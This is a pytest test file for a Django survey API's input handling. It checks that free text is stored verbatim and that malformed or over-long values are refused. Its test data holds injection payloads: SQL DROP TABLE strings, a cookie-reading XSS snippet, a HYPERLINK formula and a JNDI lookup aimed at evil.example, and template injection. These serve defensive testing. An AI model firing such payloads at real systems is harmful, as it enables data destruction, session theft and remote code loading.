"""Every field of the asking endpoints: any text is kept as text and nothing more, and any other type is refused."""

from __future__ import annotations

import json
import uuid

import pytest
from django.utils import timezone

from feedback.models import Invitation, Respondent, Response
from tests.factories import make_invitation

pytestmark = pytest.mark.django_db

ELIGIBILITY = "/api/v1/products/pk_test/eligibility"
RESPONSE = "/api/v1/invitations/token-1/response"

# What is sent, at most ten characters so that it fits everywhere, and what is kept of it.
TEXTS = {
    "SQL": ("';DROP--x", "';DROP--x"),
    "a condition": ("' OR 1=1--", "' OR 1=1--"),
    "HTML": ("<b>&\"'</b>", "<b>&\"'</b>"),
    "a template": ("{{7*7}}%s", "{{7*7}}%s"),
    "escapes": (r"\u0000\x'", r"\u0000\x'"),
    "NUL": ("1\x00b\x00", "1b"),
    "half a character": ("a\ud83db", "a?b"),
    "halves in the wrong order": ("\udc4d\ud83d", "??"),
    "emoji": ("👍🏽👩‍👩‍👧", "👍🏽👩‍👩‍👧"),
    "right-to-left override": ("\u202eabc\u2066", "\u202eabc\u2066"),
    "invisible characters": ("\u200bx\ufeff\u00ady", "\u200bx\ufeff\u00ady"),
    "stacked accents": ("Z\u0351\u0357\u0344\u0300y", "Z\u0351\u0357\u0344\u0300y"),
    "no characters": ("\uffff\ufdd0\U0010ffff", "\uffff\ufdd0\U0010ffff"),
    "control characters": ("\x01\x1b[31m\x7fx", "\x01\x1b[31m\x7fx"),
    "line breaks": ("a\r\nb\tc\u2028d", "a\r\nb\tc\u2028d"),
}


@pytest.fixture
def invitation(survey):
    return make_invitation(survey=survey, token="token-1")


def answer(**changes):
    return {"submission_id": str(uuid.UUID(int=1)), "score": 9, **changes}


# --- Text is text -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("sent", "kept"), TEXTS.values(), ids=TEXTS)
def test_what_is_said_about_a_person_is_kept_as_text(survey, ask, put, sent, kept):
    user = {"id": sent, "name": sent, "company": sent, "language": sent, "properties": {sent: sent, "k": sent}}
    context = {"app_version": sent, "language": sent, "url": f"https://app.example.com/{sent}?{sent}#{sent}"}

    offered = ask(user=user, context=context, anonymous_id=sent, test_key=sent)
    put(offered["invitation"], score=9, comment=sent)

    person, invitation, response = Respondent.objects.get(person=None), Invitation.objects.get(), Response.objects.get()
    assert (person.external_id, person.anonymous_id, person.subject_key) == (kept, kept, f"id:{kept}")
    assert (person.name, person.company) == (kept, kept)
    assert person.properties == response.properties == {kept: kept, "k": kept}
    assert invitation.app_version == response.app_version == kept
    assert invitation.language == response.language == offered["survey"]["language"]
    assert invitation.language in survey.current_version.content
    # What no address contains is no part of one: a question mark ends the path, and browsers drop line breaks.
    path = kept.partition("?")[0].translate(dict.fromkeys(map(ord, "\t\r\n")))
    assert invitation.url == response.url == f"https://app.example.com/{path}"
    assert (response.name, response.company) == (kept, kept)


@pytest.mark.parametrize(("sent", "kept"), TEXTS.values(), ids=TEXTS)
def test_an_anonymous_visitor_may_have_any_id(survey, ask, sent, kept):
    ask(anonymous_id=sent)

    assert Respondent.objects.get(person=None).subject_key == f"anon:{kept}"
    assert ask(anonymous_id=sent)["code"] == "pending"


@pytest.mark.parametrize(("sent", "kept"), TEXTS.values(), ids=TEXTS)
def test_what_a_person_writes_is_kept_as_text(invitation, put, sent, kept):
    whole, whole_kept = " ".join([sent] * 200), " ".join([kept] * 200)

    assert put("token-1", score=9, comment=whole, reasons=[sent, "", sent]).status_code == 201

    response = Response.objects.get()
    assert (response.comment, response.reasons) == (whole_kept, [kept, "", kept])
    assert list(Response.objects.search("nothing of it")) == []


@pytest.mark.parametrize(
    "comment",
    [
        "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
        "Robert'); DROP TABLE feedback_response; --",
        '=HYPERLINK("https://evil.example","click")',
        "{% load static %}{{ request.user.password }}${jndi:ldap://evil.example/a}",
        "\u202e" * 4000 + "👩‍👩‍👧‍👦" * 40,
        " " * 10_000,
        "x" * 10_000,
        "'" * 10_000,
        "' & | ! :* <-> \\ ( )",
    ],
    ids=["HTML", "SQL", "formula", "template", "emoji", "spaces", "one word", "quotes", "operators"],
)
def test_whole_comments_are_kept_and_can_be_searched(invitation, put, comment):
    assert put("token-1", score=9, comment=comment).status_code == 201

    assert Response.objects.get().comment == comment
    assert Response.objects.search(comment[:200]).count() in {0, 1}  # whatever it finds, the words are no query


@pytest.mark.parametrize("is_escaped", [True, False])
@pytest.mark.parametrize("letter", ["ż", "字", "🦆", "\u0007"])
def test_the_longest_answer_fits_in_any_script_and_any_writing_of_it(invitation, client, letter, is_escaped):
    said = {"score": 9, "comment": letter * 10_000, "reasons": [letter * 80] * 20, "contact_permission": False}
    body = json.dumps(answer(**said, seq=2**31 - 1, answered_at=timezone.now().isoformat()), ensure_ascii=is_escaped)

    reply = client.generic("PUT", RESPONSE, body, content_type="application/json")

    assert reply.status_code == 201, reply.content
    assert Response.objects.get().comment == letter * 10_000


@pytest.mark.parametrize(("sent", "kept"), TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize(
    ("field", "codes"),
    [
        ("user.email", {"invalid_email"}),
        ("user.phone", {"invalid_phone"}),
        ("user.country", {"invalid", "null_characters_not_allowed", "surrogate_characters_not_allowed"}),
        ("user.created_at", {"invalid"}),
        ("force", {"invalid"}),
        ("user", {"invalid"}),
        ("context", {"invalid"}),
        ("user.properties", {"invalid_properties"}),
    ],
)
def test_what_must_have_a_form_is_no_place_for_any_text(survey, refused, field, codes, sent, kept):
    assert refused(ELIGIBILITY, nested(field, sent)) in codes


@pytest.mark.parametrize("sent", [sent for sent, _kept in TEXTS.values() if sent.isprintable()], ids=ascii)
def test_a_choice_is_no_place_for_any_text(survey, refused, sent):
    for field in ("context.channel", "context.device"):
        assert refused(ELIGIBILITY, nested(field, sent)) == "invalid_choice"


@pytest.mark.parametrize(("sent", "kept"), TEXTS.values(), ids=TEXTS)
def test_what_an_answer_consists_of_is_no_place_for_any_text(invitation, refused, sent, kept):
    fields = {"submission_id": "invalid", "seq": "invalid", "score": "invalid_score", "answered_at": "invalid"}
    fields |= {"contact_permission": "invalid", "reasons": "not_a_list"}

    assert {name: refused(RESPONSE, answer(**{name: sent}), method="PUT") for name in fields} == fields


def nested(field, value):
    """Return a body that has the value at ``user.id``, say."""
    outer, dot, inner = field.partition(".")
    return {outer: {inner: value}} if dot else {outer: value}


@pytest.mark.parametrize("text", ["x" * 256, "x" * 30_000, "👍" * 256], ids=["long", "very long", "emoji"])
def test_text_that_is_too_long_is_refused_and_never_cut(survey, refused, text):
    fields = ["user.id", "user.name", "user.company", "user.language", "user.email", "user.phone", "anonymous_id"]
    fields += ["context.language", "context.app_version", "test_key"]

    assert {refused(ELIGIBILITY, nested(field, text)) for field in fields} == {"max_length"}


def test_only_as_much_of_an_address_is_kept_as_fits(survey, ask):
    ask(user={"id": "anna"}, context={"url": "https://app.example.com/" + "👍" * 1900})

    assert Invitation.objects.get().url == "https://app.example.com/" + "👍" * 476


# --- Types ------------------------------------------------------------------------------------------------------------

NO_TEXT = [7, -1.5, 1e300, 10**30, True, [], ["x"], {}, {"a": 1}]
NO_OBJECT = [7, 1.5, True, "x", "", [], [{}]]
NO_MOMENT = [7, 1.5, True, [], {}, "x", ""]
NO_FLAG = [2, 1.5, [], {}, "maybe", ""]
WRONG = {
    **{
        field: [(NO_TEXT, "invalid"), ([None], "null")]
        for field in (
            *("user.id", "user.email", "user.phone", "user.name", "user.company", "user.language"),
            *("anonymous_id", "identity", "test_key", "context.url", "context.language", "context.app_version"),
        )
    },
    "user": [(NO_OBJECT, "invalid"), ([None], "null")],
    "context": [(NO_OBJECT, "invalid"), ([None], "null")],
    "context.channel": [([7, True, [], {}, "", "fax", "WEB", "email"], "invalid_choice"), ([None], "null")],
    "context.device": [([7, True, [], {}, "", "toaster"], "invalid_choice"), ([None], "null")],
    "user.country": [([7, True, [], {}, "POL", "P", "1A", "PŁ", "P\n", "ＰＬ"], "invalid"), ([None], "null")],
    "user.created_at": [(NO_MOMENT, "invalid")],
    "user.properties": [
        ([7, True, "x", [], [["a", 1]]], "invalid_properties"),
        ([{"a": []}, {"a": {}}, {"a": [1]}, {"a": {"b": 1}}], "invalid_properties"),
        ([{"a": 10**15}, {"a": -(10**15)}, {"a": 1e300}, {"a": 10**400}], "invalid_properties"),
        ([{"a": float("nan")}, {"a": float("inf")}, {"a": float("-inf")}], "invalid_properties"),
        ([{"a": "x" * 501}, {"x" * 65: 1}], "invalid_properties"),
        ([None], "null"),
    ],
    "force": [(NO_FLAG, "invalid"), ([None], "null")],
}
WRONG_IN_ANSWERS = {
    "submission_id": [([1.5, [], {}, "", "x", "0" * 31, -1, 2**128], "invalid"), ([None], "null")],
    "seq": [
        ([1.5, True, [], {}, "", "x", "1e3", float("nan"), float("inf")], "invalid"),
        ([-1, -(2**63)], "min_value"),
        ([2**31, 2**63, 10**400], "max_value"),
        (["9" * 1001], "max_string_length"),
        ([None], "null"),
    ],
    "score": [
        ([None, True, False, "9", "", 9.0, 1e300, [], [9], {}, -1, 11, 2**15, 2**31, 2**63, 10**400], "invalid_score"),
        ([float("nan"), float("inf")], "invalid_score"),
    ],
    "comment": [(NO_TEXT, "invalid"), ([None], "null"), (["x" * 10_001], "max_length")],
    "reasons": [
        ([7, 1.5, True, "x", {}, {"0": "x"}], "not_a_list"),
        ([[7], [True], [[]], [{}], ["x", 1.5]], "invalid"),
        ([["x" * 81], ["x"] * 21], "max_length"),
        ([[None], None], "null"),
    ],
    "contact_permission": [(NO_FLAG, "invalid"), ([None], "null")],
    "answered_at": [(NO_MOMENT, "invalid"), ([None], "null")],
}


@pytest.mark.parametrize(("field", "cases"), WRONG.items(), ids=WRONG)
def test_wrong_types_in_questions_are_refused(survey, refused, field, cases):
    for values, code in cases:
        codes = {json.dumps(value)[:80]: refused(ELIGIBILITY, nested(field, value)) for value in values}
        assert codes == dict.fromkeys(codes, code)


@pytest.mark.parametrize(("field", "cases"), WRONG_IN_ANSWERS.items(), ids=WRONG_IN_ANSWERS)
def test_wrong_types_in_answers_are_refused(invitation, refused, field, cases):
    for values, code in cases:
        codes = {json.dumps(value)[:80]: refused(RESPONSE, answer(**{field: value}), method="PUT") for value in values}
        assert codes == dict.fromkeys(codes, code)


def test_the_same_is_refused_in_a_later_message(invitation, put, refused):
    put("token-1", submission_id=str(uuid.UUID(int=1)), score=9)

    for field, cases in WRONG_IN_ANSWERS.items():
        for values, code in cases:
            if field == "submission_id" or (field, code) == ("seq", "invalid"):
                continue
            body = {"submission_id": str(uuid.UUID(int=1)), "seq": 1, "comment": "later", field: values[0]}
            assert refused(RESPONSE, body, method="PUT") == code


@pytest.mark.parametrize("field", ["channel", "device"])
def test_half_a_character_as_a_choice_is_refused(survey, refused, field):
    assert refused("/api/v1/products/pk_test/eligibility", {"context": {field: "\ud83d"}}) == "invalid_choice"


@pytest.mark.parametrize("value", [True, False, 7, 0])
def test_a_submission_id_is_text(survey, refused, value):
    make_invitation(survey=survey, token="token-1")

    body = {"submission_id": value, "score": 9}

    assert refused("/api/v1/invitations/token-1/response", body, method="PUT") == "invalid"


@pytest.mark.parametrize("value", ["1", "yes", "t", 1])
def test_consent_is_true_or_false(survey, refused, value):
    make_invitation(survey=survey, token="token-1")

    body = {"submission_id": str(uuid.uuid4()), "score": 9, "contact_permission": value}

    assert refused("/api/v1/invitations/token-1/response", body, method="PUT") == "invalid"
